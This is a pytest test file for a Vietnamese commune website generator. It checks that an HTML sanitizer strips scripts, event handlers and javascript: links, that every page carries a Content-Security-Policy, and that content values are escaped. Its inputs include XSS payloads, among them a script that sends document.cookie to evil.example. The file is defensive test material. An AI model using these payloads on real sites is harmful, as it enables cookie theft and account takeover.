"""Raw HTML in staff Markdown: what the allow-list keeps, what it removes, and the located warnings."""

import pytest

from fixtures import commune
from helpers import build_scratch, commune_files, inline_scripts, read, walk
from trangxa.read.sanitize import clean, scan


@pytest.mark.parametrize(
    "html, kept, removed",
    [
        ("<p>a<script>alert(1)</script></p>", "<p>a</p>", "script"),
        ('<p onclick="steal()">b</p>', "<p>b</p>", "onclick"),
        ('<a href="javascript:alert(1)">c</a>', "<a>c</a>", "javascript"),
        ('<iframe src="https://evil.example/x"></iframe>', "<iframe></iframe>", "evil"),
        ('<span style="display:none">hidden</span>', "<span>hidden</span>", "display"),
        ('<img src="a.jpg" alt="x" onerror="x()">', '<img src="a.jpg" alt="x">', "onerror"),
        ("<form action='x'><input name=a></form>", "", "form"),
    ],
)
def test_the_allow_list_removes_what_can_harm(html, kept, removed):
    assert clean(html) == kept
    assert removed not in clean(html)


def test_the_allowed_video_embed_and_plain_links_stay():
    video = '<iframe src="https://www.youtube-nocookie.com/embed/abc123"></iframe>'
    assert clean(video) == video
    assert clean('<a href="mailto:a@b.vn">m</a><a href="tel:0290">t</a><a href="../x/">i</a>') == (
        '<a href="mailto:a@b.vn">m</a><a href="tel:0290">t</a><a href="../x/">i</a>')


def test_external_links_get_noopener():
    assert clean('<a href="https://dichvucong.gov.vn/">x</a>') == (
        '<a href="https://dichvucong.gov.vn/" rel="noopener noreferrer">x</a>')


def test_scan_reports_each_danger_at_its_line_and_column():
    source = "Dòng một\n<script>alert(1)</script>\nxin <b onmouseover='x()'>chào</b>\n"
    assert [(p.rule, p.line, p.column) for p in scan(source, first_line=5)] == [
        ("unsafe-html", 6, 1), ("unsafe-html", 7, 7)]


def test_a_hostile_news_item_is_published_clean_with_warnings(tmp_path):
    files = {**commune_files("xa-tan-thanh", "Xã Tân Thành"), **commune("xa-tan-thanh")}
    files["xa-tan-thanh/tin-tuc/doc-hai.md"] = (
        "---\ntieu_de: Tin có mã lạ\nngay_dang: 19/11/2026\n---\nNội dung thật.\n\n"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>\n\n"
        '<p style="font-size:0">ẩn</p>\n')
    result, output = build_scratch(tmp_path, files)
    page = read(output, "xa-tan-thanh/tin-tuc/doc-hai/index.html")
    assert "Nội dung thật." in page and inline_scripts(page) == [] and "evil.example" not in page
    assert "font-size" not in page
    found = [(f.rule, f.line) for f in result.findings if f.file.endswith("doc-hai.md")]
    assert found == [("unsafe-html", 7), ("unsafe-html", 9)]


def test_every_page_carries_the_policy_and_no_inline_script_or_style(tmp_path):
    import re

    files = {**commune_files("xa-tan-thanh", "Xã Tân Thành"), **commune("xa-tan-thanh")}
    _, output = build_scratch(tmp_path, files)
    pages = list(walk(output, "*.html"))
    assert len(pages) > 40
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert '<meta http-equiv="Content-Security-Policy" content="default-src \'self\';' in html, page
        assert "script-src 'self'" in html and inline_scripts(html) == [], page
        assert not re.search(r"\sstyle=|\son[a-z]+=", html), page


def test_values_from_content_are_escaped_in_every_template(tmp_path):
    files = {**commune_files("xa-tan-thanh", "Xã Tân Thành"), **commune("xa-tan-thanh")}
    files["xa-tan-thanh/tin-tuc/tieu-de-doc.md"] = (
        '---\ntieu_de: "<script>alert(1)</script> Tin"\nngay_dang: 19/11/2026\n'
        'tom_tat: "<img src=x onerror=alert(1)>"\n---\n')
    _, output = build_scratch(tmp_path, files)
    for page in ("xa-tan-thanh/tin-tuc/tieu-de-doc/index.html", "xa-tan-thanh/tin-tuc/index.html",
                 "xa-tan-thanh/index.html", "index.html"):
        html = read(output, page)
        assert "<script>alert" not in html and "<img src=x" not in html, page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Tin" in read(output, "xa-tan-thanh/tin-tuc/tieu-de-doc/index.html")
